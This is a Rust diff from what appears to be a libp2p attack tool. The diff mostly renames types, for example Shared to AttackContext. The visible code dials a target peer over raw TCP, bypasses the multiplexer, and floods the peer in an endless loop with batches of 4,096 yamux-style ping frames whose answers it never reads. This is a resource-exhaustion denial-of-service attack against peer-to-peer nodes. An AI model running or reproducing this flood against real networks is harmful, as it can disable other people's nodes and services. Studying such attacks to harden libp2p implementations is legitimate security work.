@@ -18,18 +18,18 @@ use libp2p::identity::Keypair;
 use libp2p::multiaddr::Protocol;
 use libp2p::{Multiaddr, noise, tcp};
 
-use super::Shared;
+use super::AttackContext;
 
 /// What is written at once.
 const PINGS: u32 = 4096;
 /// A ping that wants an answer: version 0, type 2, flag SYN, stream 0.
 const PING: [u8; 8] = [0, 2, 0, 1, 0, 0, 0, 0];
 
-trait Socket: AsyncRead + AsyncWrite + Unpin + Send {}
-impl<S: AsyncRead + AsyncWrite + Unpin + Send> Socket for S {}
+trait RawSocket: AsyncRead + AsyncWrite + Unpin + Send {}
+impl<S: AsyncRead + AsyncWrite + Unpin + Send> RawSocket for S {}
 
 /// A connection as it is, in the place of a multiplexer.
-struct Raw(Box<dyn Socket>);
+struct Raw(Box<dyn RawSocket>);
 
 /// Takes the connection.
 #[derive(Clone, Copy)]
@@ -44,7 +44,7 @@ impl UpgradeInfo for TakeRaw {
     }
 }
 
-impl<S: Socket + 'static> InboundConnectionUpgrade<S> for TakeRaw {
+impl<S: RawSocket + 'static> InboundConnectionUpgrade<S> for TakeRaw {
     type Output = Raw;
     type Error = std::io::Error;
     type Future = Ready<std::io::Result<Raw>>;
@@ -54,7 +54,7 @@ impl<S: Socket + 'static> InboundConnectionUpgrade<S> for TakeRaw {
     }
 }
 
-impl<S: Socket + 'static> OutboundConnectionUpgrade<S> for TakeRaw {
+impl<S: RawSocket + 'static> OutboundConnectionUpgrade<S> for TakeRaw {
     type Output = Raw;
     type Error = std::io::Error;
     type Future = Ready<std::io::Result<Raw>>;
@@ -87,17 +87,17 @@ impl StreamMuxer for Raw {
 }
 
 /// Until the other end ends it.
-pub(super) async fn ping_and_read_nothing(shared: &Arc<Shared>, keypair: &Keypair) -> Result<()> {
+pub(super) async fn ping_and_read_nothing(shared: &Arc<AttackContext>, keypair: &Keypair) -> Result<()> {
     let mut socket = dial(keypair, shared.address.clone()).await?;
     let pings: Vec<u8> = (0..PINGS).flat_map(|number| [&PING[..], &number.to_be_bytes()].concat()).collect();
     loop {
         socket.write_all(&pings).await?;
         socket.flush().await?;
-        shared.tally.act();
+        shared.counters.act();
     }
 }
 
-async fn dial(keypair: &Keypair, address: Multiaddr) -> Result<Box<dyn Socket>> {
+async fn dial(keypair: &Keypair, address: Multiaddr) -> Result<Box<dyn RawSocket>> {
     // A transport knows who answers, and not who should.
     let address: Multiaddr = address.iter().filter(|part| !matches!(part, Protocol::P2p(_))).collect();
     let mut transport = tcp::tokio::Transport::new(tcp::Config::default().nodelay(true))
